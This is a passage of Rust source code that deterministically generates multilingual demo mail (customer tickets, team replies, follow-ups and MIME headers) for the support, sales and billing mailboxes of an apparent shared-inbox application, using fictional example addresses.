//! The demo's mail: customers, topics, team replies, and the few special messages every
//! feature needs to be shown (alias mail, attachments, HTML-only, a hostile message).
//!
//! Deterministic: a fixed-seed xorshift generator picks everything; only the dates move
//! with `now`, so a fresh demo always looks recent.

use super::mime;
use crate::mail::encoding;
use crate::message::Flags;

/// One message to append.
pub(crate) struct Seed {
    pub mailbox: &'static str,
    pub raw: Vec<u8>,
    pub flags: Flags,
    pub keywords: Vec<String>,
    pub internal: i64,
}

/// The start of the hostile message's subject, for tests and for the curious.
pub const HOSTILE_SUBJECT_START: &str = "Account suspended";

const MINUTE: i64 = 60;
const HOUR: i64 = 3600;
const DAY: i64 = 86_400;
/// The demo spans this many days before now.
const SPAN: i64 = 21 * DAY;

/// xorshift64*: tiny, deterministic, good enough to shuffle demo data.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng((seed ^ 0x9E37_79B9_7F4A_7C15) | 1)
    }

    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next() % n }
    }

    /// Uniform in `lo..hi` (or `lo` when the range is empty).
    fn range(&mut self, lo: i64, hi: i64) -> i64 {
        if hi <= lo {
            return lo;
        }
        lo + self.below((hi - lo) as u64) as i64
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    fn index(&mut self, len: usize) -> usize {
        self.below(len as u64) as usize
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut s = String::with_capacity(digits);
        while s.len() < digits {
            s.push_str(&format!("{:016x}", self.next()));
        }
        s.truncate(digits);
        s
    }
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Lang {
    En,
    De,
    Ja,
    Es,
    Pl,
    Fr,
    Ru,
    Pt,
    Ko,
    Vi,
    El,
    Da,
    Zh,
    It,
}

struct Person {
    name: &'static str,
    email: &'static str,
    /// How the team greets them.
    greet: &'static str,
    /// Their zone, minutes east of UTC, for Date: headers.
    tz: i32,
    lang: Lang,
}

impl Person {
    fn domain(&self) -> &'static str {
        self.email
            .rsplit_once('@')
            .map_or("example.net", |(_, d)| d)
    }

    /// `Name <addr>` as a person reads it (not header-encoded).
    fn display(&self) -> String {
        if self.name.is_empty() {
            self.email.to_string()
        } else {
            format!("{} <{}>", self.name, self.email)
        }
    }

    fn signoff(&self) -> &'static str {
        if self.name.is_empty() {
            "IT Helpdesk"
        } else {
            self.name
        }
    }
}

#[derive(Clone, Copy)]
enum Attachment {
    Csv(&'static str),
    Pdf(&'static str),
    Png(&'static str),
}

#[derive(Clone, Copy)]
enum Form {
    Plain,
    /// text/html only, as web mailers and notification systems send.
    Html,
    /// multipart/alternative, text and HTML.
    Alternative,
    Attach(Attachment),
}

struct Topic {
    lang: Lang,
    subject: &'static str,
    text: &'static str,
    form: Form,
}

pub(crate) struct Agent {
    pub id: &'static str,
    pub name: &'static str,
    pub email: &'static str,
}

pub(crate) const ALICE: Agent = Agent {
    id: "alice",
    name: "Alice Example",
    email: "alice@example.test",
};
const BOB: Agent = Agent {
    id: "bob",
    name: "Bob Builder",
    email: "bob@example.test",
};
const CAROL: Agent = Agent {
    id: "carol",
    name: "Carol Nguyen",
    email: "carol@example.test",
};
const DMITRI: Agent = Agent {
    id: "dmitri",
    name: "Dmitri Volkov",
    email: "dmitri@example.test",
};

/// One shared mailbox and what lands in it.
pub(crate) struct AccountSpec {
    pub name: &'static str,
    pub address: &'static str,
    pub display: &'static str,
    alias: Option<&'static str>,
    on_behalf: bool,
    agents: &'static [Agent],
    customers: &'static [Person],
    topics: &'static [Topic],
    replies: &'static [&'static str],
    /// Random customer mail in INBOX, besides the special messages.
    inbox_threads: usize,
    seed: u64,
}

pub(crate) const ACCOUNTS: [AccountSpec; 3] = [
    AccountSpec {
        name: "support",
        address: "support@example.test",
        display: "Example Support",
        alias: Some("help@example.test"),
        on_behalf: false,
        agents: &[ALICE, BOB, CAROL],
        customers: SUPPORT_CUSTOMERS,
        topics: SUPPORT_TOPICS,
        replies: SUPPORT_REPLIES,
        inbox_threads: 95,
        seed: 0x5355_5050_4f52_5401,
    },
    AccountSpec {
        name: "sales",
        address: "sales@example.test",
        display: "Example Sales",
        alias: None,
        on_behalf: true,
        agents: &[BOB, DMITRI, ALICE],
        customers: SALES_CUSTOMERS,
        topics: SALES_TOPICS,
        replies: SALES_REPLIES,
        inbox_threads: 48,
        seed: 0x5341_4c45_5302,
    },
    AccountSpec {
        name: "billing",
        address: "billing@example.test",
        display: "Example Billing",
        alias: None,
        on_behalf: false,
        agents: &[CAROL, ALICE],
        customers: BILLING_CUSTOMERS,
        topics: BILLING_TOPICS,
        replies: BILLING_REPLIES,
        inbox_threads: 33,
        seed: 0x4249_4c4c_0003,
    },
];

const fn p(
    name: &'static str,
    email: &'static str,
    greet: &'static str,
    tz: i32,
    lang: Lang,
) -> Person {
    Person {
        name,
        email,
        greet,
        tz,
        lang,
    }
}

const SUPPORT_CUSTOMERS: &[Person] = &[
    p(
        "Zoë Müller",
        "zoe.mueller@mueller-technik.example",
        "Zoë",
        60,
        Lang::De,
    ),
    p(
        "山田太郎",
        "taro.yamada@yamada-shoji.example",
        "山田様",
        540,
        Lang::Ja,
    ),
    p(
        "José García",
        "jose.garcia@correo.example",
        "José",
        60,
        Lang::Es,
    ),
    p(
        "Łukasz Kowalski",
        "lukasz.kowalski@kowalski.example",
        "Łukasz",
        60,
        Lang::Pl,
    ),
    p(
        "François Dupont",
        "f.dupont@atelier-dupont.example",
        "François",
        60,
        Lang::Fr,
    ),
    p(
        "Smith, John",
        "john.smith@acme-corp.example",
        "John",
        -300,
        Lang::En,
    ),
    p(
        "Priya Raman",
        "priya@raman-labs.example",
        "Priya",
        330,
        Lang::En,
    ),
    p(
        "Дмитрий Иванов",
        "d.ivanov@stroy.example",
        "Дмитрий",
        180,
        Lang::Ru,
    ),
    p(
        "Ana Lúcia Ferreira",
        "ana.ferreira@exemplo.example",
        "Ana",
        -180,
        Lang::Pt,
    ),
    p(
        "김민준",
        "minjun.kim@hangang.example",
        "민준 님",
        540,
        Lang::Ko,
    ),
    p(
        "Nguyễn Văn An",
        "an.nguyen@saigon-soft.example",
        "An",
        420,
        Lang::Vi,
    ),
    p(
        "Ελένη Παπαδοπούλου",
        "eleni@athena-web.example",
        "Eleni",
        120,
        Lang::El,
    ),
    p(
        "Søren Østergaard",
        "soren@nordlys.example",
        "Søren",
        60,
        Lang::Da,
    ),
    p(
        "Mary O'Brien",
        "mary.obrien@shamrock.example",
        "Mary",
        0,
        Lang::En,
    ),
    p("Tom Baker", "tom@bakerandsons.example", "Tom", 0, Lang::En),
    p(
        "Linda Park",
        "linda.park@parkdesign.example",
        "Linda",
        -480,
        Lang::En,
    ),
    p("", "it-helpdesk@bigcorp.example", "team", -300, Lang::En),
    p(
        "Ahmed Al-Farsi",
        "ahmed@alfarsi-trading.example",
        "Ahmed",
        240,
        Lang::En,
    ),
    p(
        "Chloé Martin",
        "chloe.martin@boulangerie-martin.example",
        "Chloé",
        60,
        Lang::Fr,
    ),
    p(
        "Björn Andersson",
        "bjorn@andersson-bygg.example",
        "Björn",
        60,
        Lang::En,
    ),
];

const SALES_CUSTOMERS: &[Person] = &[
    p(
        "Ingrid Bjørnstad",
        "ingrid@fjordline-logistics.example",
        "Ingrid",
        60,
        Lang::En,
    ),
    p(
        "田中宏",
        "h.tanaka@sakura-denki.example",
        "田中様",
        540,
        Lang::Ja,
    ),
    p(
        "Carlos Mendoza",
        "carlos@mendoza-import.example",
        "Carlos",
        -360,
        Lang::Es,
    ),
    p(
        "Müller, Hans",
        "hans.mueller@stadtwerke-nord.example",
        "Herr Müller",
        60,
        Lang::De,
    ),
    p(
        "Emily Chen",
        "emily.chen@brightpath.example",
        "Emily",
        -480,
        Lang::En,
    ),
    p(
        "Procurement Team",
        "procurement@bigcorp.example",
        "team",
        -300,
        Lang::En,
    ),
    p(
        "Fatima Zahra",
        "fatima@atlas-consult.example",
        "Fatima",
        60,
        Lang::Fr,
    ),
    p(
        "Ольга Петрова",
        "o.petrova@volga-trade.example",
        "Ольга",
        180,
        Lang::Ru,
    ),
    p(
        "张伟",
        "zhang.wei@huaxia-tech.example",
        "张先生",
        480,
        Lang::Zh,
    ),
    p(
        "Sophie Laurent",
        "sophie.laurent@lumiere-studio.example",
        "Sophie",
        60,
        Lang::Fr,
    ),
    p(
        "Raj Patel",
        "raj@patel-pharma.example",
        "Raj",
        330,
        Lang::En,
    ),
    p(
        "Universität Süd – IT",
        "it-einkauf@uni-sued.example",
        "Damen und Herren",
        60,
        Lang::De,
    ),
];

const BILLING_CUSTOMERS: &[Person] = &[
    p(
        "Accounts Payable",
        "ap@acme-corp.example",
        "team",
        -300,
        Lang::En,
    ),
    p(
        "Zoë Müller",
        "zoe.mueller@mueller-technik.example",
        "Zoë",
        60,
        Lang::De,
    ),
    p(
        "Kerstin Weiß",
        "k.weiss@weiss-partner.example",
        "Frau Weiß",
        60,
        Lang::De,
    ),
    p(
        "José García",
        "jose.garcia@correo.example",
        "José",
        60,
        Lang::Es,
    ),
    p(
        "Jan Nowak",
        "jan.nowak@nowak-sp.example",
        "Jan",
        60,
        Lang::Pl,
    ),
    p(
        "Giulia Rossi",
        "giulia.rossi@rossi-design.example",
        "Giulia",
        60,
        Lang::It,
    ),
    p(
        "Mary O'Brien",
        "mary.obrien@shamrock.example",
        "Mary",
        0,
        Lang::En,
    ),
    p(
        "山田太郎",
        "taro.yamada@yamada-shoji.example",
        "山田様",
        540,
        Lang::Ja,
    ),
    p(
        "Finance Dept.",
        "finance@brightpath.example",
        "team",
        -480,
        Lang::En,
    ),
];

const fn t(lang: Lang, subject: &'static str, text: &'static str, form: Form) -> Topic {
    Topic {
        lang,
        subject,
        text,
        form,
    }
}

const SUPPORT_TOPICS: &[Topic] = &[
    t(
        Lang::En,
        "Cannot log in after password reset",
        "since resetting my password this morning I get \"invalid credentials\"\non every attempt. I tried two browsers and cleared my cookies.\n\nCould you check my account?",
        Form::Plain,
    ),
    t(
        Lang::En,
        "App crashes on startup (version 4.2.1)",
        "after yesterday's update the desktop app closes right after the\nsplash screen. Reinstalling did not help. I'm on Windows 11.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Export to CSV produces an empty file",
        "when I export last month's report to CSV the file only contains the\nheader row. I've attached what I get.",
        Form::Attach(Attachment::Csv("report-export.csv")),
    ),
    t(
        Lang::En,
        "Two-factor codes are not arriving",
        "none of my colleagues receive the SMS codes since Monday.\nWe are all on the same carrier, if that helps.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "How do I add a second user to our team?",
        "we just hired someone and I can't find where to invite them.\nIs that possible on our plan?",
        Form::Alternative,
    ),
    t(
        Lang::En,
        "Error 502 when uploading attachments",
        "uploads larger than about 10 MB fail with \"502 Bad Gateway\".\nSmaller files work fine.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Data deletion request (GDPR Art. 17)",
        "please delete all personal data you hold about me and confirm\nonce this is done.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Webhook retries are flooding our endpoint",
        "we are receiving the same webhook event hundreds of times per\nminute. Our endpoint answers 200 within 50 ms.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Password reset link has expired",
        "the reset link in your email says it has expired, even when I\nclick it right away.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Screenshot of the error",
        "this is what I see when I open the settings page. It started\ntoday.",
        Form::Attach(Attachment::Png("screenshot.png")),
    ),
    t(
        Lang::En,
        "Sync stopped working after the update",
        "since the update, changes made on my phone no longer show up on\nmy laptop.",
        Form::Html,
    ),
    t(
        Lang::En,
        "Feature request: dark mode",
        "any plans for a dark mode? Our night shift would love it.",
        Form::Alternative,
    ),
    t(
        Lang::De,
        "Frage zur Rechnung für März",
        "in der Rechnung für März sind drei Nutzer zu viel aufgeführt.\nKönnen Sie das bitte prüfen?",
        Form::Plain,
    ),
    t(
        Lang::De,
        "Export bricht mit Fehler ab",
        "der Export nach Excel bricht bei 80 % mit der Meldung\n„Zeitüberschreitung“ ab.",
        Form::Plain,
    ),
    t(
        Lang::De,
        "Zugang gesperrt – bitte dringend prüfen",
        "mein Zugang wurde nach drei Fehlversuchen gesperrt. Wir brauchen\nihn heute noch für den Monatsabschluss.",
        Form::Html,
    ),
    t(
        Lang::Ja,
        "ログインできません",
        "本日朝からログインできなくなりました。\nパスワードは正しいはずです。確認をお願いします。",
        Form::Plain,
    ),
    t(
        Lang::Ja,
        "データのエクスポートについて",
        "先月分のデータをCSVで出力したいのですが、方法を教えてください。",
        Form::Plain,
    ),
    t(
        Lang::Es,
        "Problema con la sincronización",
        "desde ayer la aplicación no sincroniza los contactos.\n¿Hay algún problema conocido?",
        Form::Plain,
    ),
    t(
        Lang::Es,
        "No recibo los correos de confirmación",
        "me registré hace dos días y todavía no he recibido el correo de\nconfirmación. Ya revisé la carpeta de spam.",
        Form::Plain,
    ),
    t(
        Lang::Pl,
        "Błąd przy eksporcie danych",
        "przy eksporcie danych pojawia się błąd „Nieznany format”.\nCo mogę zrobić?",
        Form::Plain,
    ),
    t(
        Lang::Fr,
        "Problème d'accès à mon compte",
        "je n'arrive plus à me connecter depuis la mise à jour.\nPouvez-vous m'aider ?",
        Form::Plain,
    ),
    t(
        Lang::Ru,
        "Ошибка при оплате",
        "при оплате картой появляется ошибка «Транзакция отклонена».\nДеньги при этом списываются.",
        Form::Plain,
    ),
    t(
        Lang::Pt,
        "Não consigo exportar relatórios",
        "o botão de exportar relatórios está desativado para mim.\nSou administradora da conta.",
        Form::Plain,
    ),
    t(
        Lang::Ko,
        "로그인 오류 문의",
        "오늘 아침부터 로그인이 되지 않습니다. 확인 부탁드립니다.",
        Form::Plain,
    ),
    t(
        Lang::Vi,
        "Lỗi khi tải tệp lên",
        "tôi không thể tải tệp PDF lên hệ thống. Xin hãy giúp tôi.",
        Form::Plain,
    ),
    t(
        Lang::El,
        "Πρόβλημα με τη σύνδεση",
        "δεν μπορώ να συνδεθώ στον λογαριασμό μου από χθες.",
        Form::Plain,
    ),
    t(
        Lang::Da,
        "Spørgsmål om abonnement",
        "kan vi skifte til årlig betaling midt i perioden?",
        Form::Plain,
    ),
];

const SALES_TOPICS: &[Topic] = &[
    t(
        Lang::En,
        "Quote request for 50 seats",
        "we'd like a quote for 50 seats on the Team plan, billed\nannually. Do you offer a discount at that size?",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Pricing for non-profit organisations",
        "we are a registered charity. Do you have special pricing for\nnon-profits?",
        Form::Alternative,
    ),
    t(
        Lang::En,
        "Enterprise plan: SSO and audit log?",
        "does the Enterprise plan include SAML single sign-on and an\naudit log we can export?",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Renewal of our annual subscription",
        "our subscription renews next month. We'd like to add ten seats\nat renewal.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Volume discount for 200+ users",
        "we are evaluating you for our whole company (about 230 users).\nWhat would the pricing look like?",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Trial extension request",
        "our trial ends on Friday but our security review is not done yet.\nCould you extend it by two weeks?",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Purchase order PO-2024-0113",
        "please find our purchase order attached. Kindly confirm receipt.",
        Form::Attach(Attachment::Pdf("PO-2024-0113.pdf")),
    ),
    t(
        Lang::En,
        "Security questionnaire for procurement",
        "our procurement team needs the attached questionnaire filled in\nbefore we can sign.",
        Form::Attach(Attachment::Csv("security-questionnaire.csv")),
    ),
    t(
        Lang::En,
        "Can we pay by bank transfer?",
        "our finance department prefers bank transfer over credit card.\nIs that possible?",
        Form::Plain,
    ),
    t(
        Lang::De,
        "Rabatt für Bildungseinrichtungen?",
        "gibt es bei Ihnen einen Rabatt für Hochschulen? Wir planen mit\netwa 120 Nutzern.",
        Form::Plain,
    ),
    t(
        Lang::De,
        "Angebot für 20 Lizenzen",
        "bitte senden Sie uns ein Angebot für 20 Lizenzen inklusive\nEinrichtung.",
        Form::Plain,
    ),
    t(
        Lang::Fr,
        "Demande de devis – 20 licences",
        "pourriez-vous nous envoyer un devis pour 20 licences ?",
        Form::Plain,
    ),
    t(
        Lang::Ja,
        "見積もりのお願い",
        "30ユーザー分の見積もりをお願いできますでしょうか。",
        Form::Plain,
    ),
    t(
        Lang::Zh,
        "关于企业版的咨询",
        "请问企业版是否支持单点登录？我们大约有80名用户。",
        Form::Plain,
    ),
    t(
        Lang::Ru,
        "Запрос коммерческого предложения",
        "просим направить коммерческое предложение на 40 пользователей.",
        Form::Plain,
    ),
];

const BILLING_TOPICS: &[Topic] = &[
    t(
        Lang::En,
        "Invoice INV-2024-0412 overdue?",
        "we received a reminder for INV-2024-0412, but our records show\nit was paid on the 3rd. Could you check?",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Refund request for duplicate charge",
        "our card was charged twice for the May invoice. Please refund\nthe duplicate.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Please update our billing address",
        "we have moved. Please use the new address below on all future\ninvoices:\n\n12 Harbour Street\nDublin 2",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Request for W-9 form",
        "our accounts team needs your W-9 before we can pay.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Receipt for March",
        "could you send us the receipt for March? Attached is our payment\nconfirmation.",
        Form::Attach(Attachment::Pdf("payment-confirmation-march.pdf")),
    ),
    t(
        Lang::En,
        "VAT number change",
        "our VAT number has changed. Please update it before the next\ninvoice.",
        Form::Plain,
    ),
    t(
        Lang::En,
        "Statement of account",
        "attached is our statement of account; the last two lines don't\nmatch your invoices.",
        Form::Attach(Attachment::Csv("statement.csv")),
    ),
    t(
        Lang::En,
        "Cancel auto-renewal",
        "please switch off auto-renewal for our account.",
        Form::Alternative,
    ),
    t(
        Lang::De,
        "Rechnung Nr. 2024-118 – falsche USt-IdNr.",
        "auf der Rechnung 2024-118 steht eine falsche USt-IdNr.\nBitte senden Sie uns eine korrigierte Rechnung.",
        Form::Attach(Attachment::Pdf("Rechnung_März.pdf")),
    ),
    t(
        Lang::Es,
        "Factura con datos fiscales incorrectos",
        "la factura de abril tiene un NIF incorrecto. ¿Podrían\ncorregirla?",
        Form::Plain,
    ),
    t(
        Lang::It,
        "Richiesta di fattura elettronica",
        "avremmo bisogno della fattura in formato elettronico (SDI).",
        Form::Plain,
    ),
    t(
        Lang::Pl,
        "Korekta faktury",
        "prosimy o wystawienie faktury korygującej za kwiecień.",
        Form::Plain,
    ),
];

const SUPPORT_REPLIES: &[&str] = &[
    "thanks for reaching out. I've reset the session on your account;\ncould you try again and let us know whether it works now?",
    "sorry for the trouble. We've reproduced the problem and our engineers\nare working on a fix. I'll update you as soon as it is deployed.",
    "thanks for the details. Could you send us the exact time of the last\nattempt and, if possible, a screenshot of the error?",
    "this is fixed on our side now. Please update to version 4.2.2 and let\nme know if anything still looks wrong.",
    "good question! You can do this under Settings → Team → Invite. You need\nadmin rights for that step.",
];

const SALES_REPLIES: &[&str] = &[
    "thank you for your interest. For 50 seats on the Team plan I can offer\n15 % off the list price. Shall I prepare a formal quote?",
    "happy to help. Single sign-on and the audit log are part of the\nEnterprise plan. Would a short call on Thursday work for you?",
    "I've extended your trial by 14 days. Let me know if there is anything\nelse your security team needs from us.",
    "yes, bank transfer is fine for annual plans. I'll include the details\nwith the quote.",
];

const BILLING_REPLIES: &[&str] = &[
    "thanks, we've updated your details; the change will appear on your next\ninvoice.",
    "we've refunded the duplicate charge. It usually reaches your account\nwithin 5–10 business days.",
    "the invoice is marked as paid on our side. Could you check whether the\nremittance used a different reference?",
];

fn follow_ups(lang: Lang) -> &'static [&'static str] {
    match lang {
        Lang::De => &[
            "Danke, jetzt funktioniert es!",
            "Leider besteht das Problem weiterhin. Gleiche Meldung wie vorher.",
            "Gibt es schon Neuigkeiten? Das blockiert unser Team.",
        ],
        Lang::Ja => &[
            "ご対応ありがとうございます。解決しました。",
            "まだ同じエラーが出ます。ご確認をお願いいたします。",
        ],
        Lang::Es => &[
            "¡Gracias, ya funciona!",
            "Sigue sin funcionar, sale el mismo error.",
        ],
        Lang::Fr => &[
            "Merci, tout fonctionne maintenant !",
            "Le problème persiste malheureusement.",
        ],
        _ => &[
            "Thanks, that did the trick!",
            "Unfortunately it still doesn't work. Same error as before.",
            "Thanks for the quick reply. Here is the information you asked for:\nit happened at 09:14 our time, on two different machines.",
            "Any update on this? It's blocking our team.",
            "Perfect, thank you very much.",
        ],
    }
}

fn greeting(lang: Lang, greet: &str) -> String {
    match lang {
        Lang::De => format!("Hallo {greet},"),
        Lang::Ja | Lang::Ko | Lang::Zh => greet.to_string(),
        Lang::Es => format!("Hola {greet}:"),
        Lang::Fr => format!("Bonjour {greet},"),
        _ => format!("Hi {greet},"),
    }
}

fn customer_greeting(lang: Lang, team: &str) -> String {
    match lang {
        Lang::De => "Guten Tag,".to_string(),
        Lang::Ja => format!("{team} ご担当者様"),
        Lang::Es => "Hola:".to_string(),
        Lang::Fr => "Bonjour,".to_string(),
        Lang::Pl => "Dzień dobry,".to_string(),
        Lang::Ru => "Здравствуйте,".to_string(),
        Lang::Pt => "Olá,".to_string(),
        Lang::Ko => "안녕하세요,".to_string(),
        Lang::Vi => "Xin chào,".to_string(),
        Lang::El => "Καλημέρα,".to_string(),
        Lang::Da => "Hej,".to_string(),
        Lang::Zh => "您好，".to_string(),
        Lang::It => "Buongiorno,".to_string(),
        Lang::En => "Hello,".to_string(),
    }
}

fn closing(lang: Lang) -> &'static str {
    match lang {
        Lang::De => "Viele Grüße",
        Lang::Ja => "よろしくお願いいたします。",
        Lang::Es => "Saludos,",
        Lang::Fr => "Cordialement,",
        Lang::Pl => "Pozdrawiam,",
        Lang::Ru => "С уважением,",
        Lang::Pt => "Atenciosamente,",
        Lang::Ko => "감사합니다.",
        Lang::Vi => "Trân trọng,",
        Lang::El => "Ευχαριστώ,",
        Lang::Da => "Venlig hilsen",
        Lang::Zh => "谢谢！",
        Lang::It => "Cordiali saluti,",
        Lang::En => "Thanks,",
    }
}

/// Content of a message, before MIME rendering.
enum Content {
    Plain(String),
    Html(String),
    Alternative(String),
    Mixed(String, Vec<Part>),
    /// text/plain in ISO-8859-1, quoted-printable: an older client's mail.
    Latin1(String),
}

struct Part {
    content_type: String,
    disposition: String,
    data: Vec<u8>,
}

/// Generates every message of one account.
pub(crate) fn account_seeds(spec: &AccountSpec, now: i64) -> Vec<Seed> {
    let mut g = Gen {
        spec,
        now,
        rng: Rng::new(spec.seed),
        seeds: Vec::new(),
    };
    for i in 0..spec.inbox_threads {
        g.random_thread(i);
    }
    match spec.name {
        "support" => g.support_specials(),
        "sales" => g.sales_specials(),
        _ => g.billing_specials(),
    }
    g.seeds.sort_by_key(|s| s.internal);
    g.seeds
}

struct Gen<'a> {
    spec: &'a AccountSpec,
    now: i64,
    rng: Rng,
    seeds: Vec<Seed>,
}

fn flags(seen: bool, answered: bool, flagged: bool) -> Flags {
    Flags {
        seen,
        answered,
        flagged,
        ..Flags::default()
    }
}

fn assigned(agent: &Agent) -> String {
    format!("$assigned.{}", agent.id)
}

fn re(subject: &str) -> String {
    if subject
        .get(..3)
        .is_some_and(|p| p.eq_ignore_ascii_case("re:"))
    {
        subject.to_string()
    } else {
        format!("Re: {subject}")
    }
}

impl Gen<'_> {
    fn pick_topic(&mut self, lang: Lang) -> &'static Topic {
        let topics = self.spec.topics;
        let fitting: Vec<&'static Topic> = topics
            .iter()
            .filter(|t| {
                t.lang == lang || (t.lang == Lang::En && lang != Lang::En && self.rng.chance(30))
            })
            .collect();
        let pool: Vec<&'static Topic> = if fitting.is_empty() {
            topics.iter().filter(|t| t.lang == Lang::En).collect()
        } else {
            fitting
        };
        pool[self.rng.index(pool.len())]
    }

    fn customer(&mut self) -> &'static Person {
        let c = self.spec.customers;
        &c[self.rng.index(c.len())]
    }

    fn customer_for(&mut self, lang: Lang) -> &'static Person {
        let fitting: Vec<&'static Person> = self
            .spec
            .customers
            .iter()
            .filter(|p| p.lang == lang)
            .collect();
        if fitting.is_empty() {
            self.customer()
        } else {
            fitting[self.rng.index(fitting.len())]
        }
    }

    fn agent(&mut self) -> &'static Agent {
        let a = self.spec.agents;
        &a[self.rng.index(a.len())]
    }

    /// An age skewed towards the recent past: most mail is from the last days.
    fn age(&mut self) -> i64 {
        let a = self.rng.range(0, SPAN);
        let b = self.rng.range(0, SPAN);
        a.min(b) + 10 * MINUTE
    }

    fn message_id(&mut self, domain: &str) -> String {
        format!("{}.{}@{domain}", self.rng.hex(16), self.rng.hex(6))
    }

    fn push(
        &mut self,
        mailbox: &'static str,
        raw: Vec<u8>,
        flags: Flags,
        keywords: Vec<String>,
        internal: i64,
    ) {
        self.seeds.push(Seed {
            mailbox,
            raw,
            flags,
            keywords,
            internal,
        });
    }

    /// A customer thread; the first ones walk through every topic once, so each language
    /// and form is in the demo whatever the dice say.
    fn random_thread(&mut self, i: usize) {
        let (person, topic) = match self.spec.topics.get(i) {
            Some(topic) => (self.customer_for(topic.lang), topic),
            None => {
                let person = self.customer();
                (person, self.pick_topic(person.lang))
            }
        };
        let age = self.age();
        let t0 = self.now - age;
        let to_alias = self.spec.alias.is_some() && self.rng.chance(20);
        let text = format!(
            "{}\n\n{}\n\n{}\n{}\n",
            customer_greeting(person.lang, self.spec.display),
            topic.text,
            closing(person.lang),
            person.signoff()
        );
        let content = self.content(topic.form, &text);
        let mid = self.message_id(&format!("mail.{}", person.domain()));
        let raw = self.customer_mail(person, to_alias, topic.subject, &mid, &[], content, t0);
        let agent = self.agent();
        let reply_chance = if age > 3 * DAY {
            60
        } else if age > 6 * HOUR {
            40
        } else if age > 40 * MINUTE {
            10
        } else {
            0
        };
        if !self.rng.chance(reply_chance) {
            let unread = if age < 4 * DAY {
                self.rng.chance(80)
            } else {
                self.rng.chance(35)
            };
            let mut kw = Vec::new();
            if self.rng.chance(25) {
                kw.push(assigned(agent));
            }
            let flagged = self.rng.chance(10);
            self.push("INBOX", raw, flags(!unread, false, flagged), kw, t0);
            return;
        }
        let t1 = t0
            + self
                .rng
                .range(20 * MINUTE, (age - 5 * MINUTE).min(30 * HOUR));
        let reply_text = self.spec.replies[self.rng.index(self.spec.replies.len())];
        let reply_mid = self.message_id("example.test");
        let refs = vec![mid.clone()];
        let reply = self.team_reply(
            agent,
            person,
            topic.subject,
            reply_text,
            &text,
            &reply_mid,
            &refs,
            t0,
            t1,
        );
        self.push("Sent", reply, flags(true, false, false), Vec::new(), t1);
        let follow = t1 < self.now - HOUR && self.rng.chance(30);
        let status = if follow || self.rng.chance(35) {
            "$pending"
        } else {
            "$done"
        };
        self.push(
            "INBOX",
            raw,
            flags(true, true, false),
            vec![assigned(agent), status.to_string()],
            t0,
        );
        if !follow {
            return;
        }
        let t2 = t1
            + self
                .rng
                .range(30 * MINUTE, (self.now - t1 - 10 * MINUTE).min(2 * DAY));
        let lines = follow_ups(person.lang);
        let answer = lines[self.rng.index(lines.len())];
        let quoted = format!(
            "{answer}\n\n{}\n\n{}",
            self.attribution(t1, self.spec.display),
            mime::quote(&reply_body(self.spec, agent, person, reply_text))
        );
        let fmid = self.message_id(&format!("mail.{}", person.domain()));
        let frefs = vec![mid.clone(), reply_mid.clone()];
        let subject = re(topic.subject);
        let raw2 = self.customer_mail(
            person,
            to_alias,
            &subject,
            &fmid,
            &frefs,
            Content::Plain(quoted.clone()),
            t2,
        );
        let second_reply = t2 < self.now - 2 * HOUR && self.rng.chance(40);
        if second_reply {
            let t3 = t2
                + self
                    .rng
                    .range(15 * MINUTE, (self.now - t2 - 30 * MINUTE).min(DAY));
            let text3 = self.spec.replies[self.rng.index(self.spec.replies.len())];
            let rmid = self.message_id("example.test");
            let rrefs = vec![mid, reply_mid, fmid];
            let reply3 = self.team_reply(
                agent, person, &subject, text3, &quoted, &rmid, &rrefs, t2, t3,
            );
            self.push("Sent", reply3, flags(true, false, false), Vec::new(), t3);
            self.push(
                "INBOX",
                raw2,
                flags(true, true, false),
                vec![assigned(agent), "$done".into()],
                t2,
            );
        } else {
            let unread = t2 > self.now - 2 * DAY;
            self.push(
                "INBOX",
                raw2,
                flags(!unread, false, false),
                vec![assigned(agent)],
                t2,
            );
        }
    }

    fn attribution(&self, t: i64, who: &str) -> String {
        format!("On {}, {who} wrote:", mime::rfc5322_date(t, 0))
    }

    fn content(&mut self, form: Form, text: &str) -> Content {
        match form {
            Form::Plain => Content::Plain(text.to_string()),
            Form::Html => Content::Html(html_of(text)),
            Form::Alternative => Content::Alternative(text.to_string()),
            Form::Attach(a) => {
                Content::Mixed(text.to_string(), vec![attachment_part(a, &mut self.rng)])
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn customer_mail(
        &mut self,
        person: &Person,
        to_alias: bool,
        subject: &str,
        mid: &str,
        refs: &[String],
        content: Content,
        t: i64,
    ) -> Vec<u8> {
        let spec = self.spec;
        let sent = t - self.rng.range(5, 3 * MINUTE);
        // Top down as Postfix's delivery leaves them: envelope headers, then Received.
        let mut h = mime::header("Return-Path", &format!("<{}>", person.email));
        let to = match (to_alias, spec.alias) {
            (true, Some(alias)) => {
                h.push_str(&mime::header("X-Original-To", alias));
                alias.to_string()
            }
            _ => mime::mailbox(spec.display, spec.address),
        };
        h.push_str(&mime::header("Delivered-To", spec.address));
        h.push_str(&self.received(person.domain(), t));
        h.push_str(&mime::header(
            "From",
            &mime::mailbox(person.name, person.email),
        ));
        h.push_str(&mime::header("To", &to));
        // An older client writes its own charset into the subject too.
        let encoded = match content {
            Content::Latin1(_) => mime::latin1_q(subject),
            _ => None,
        };
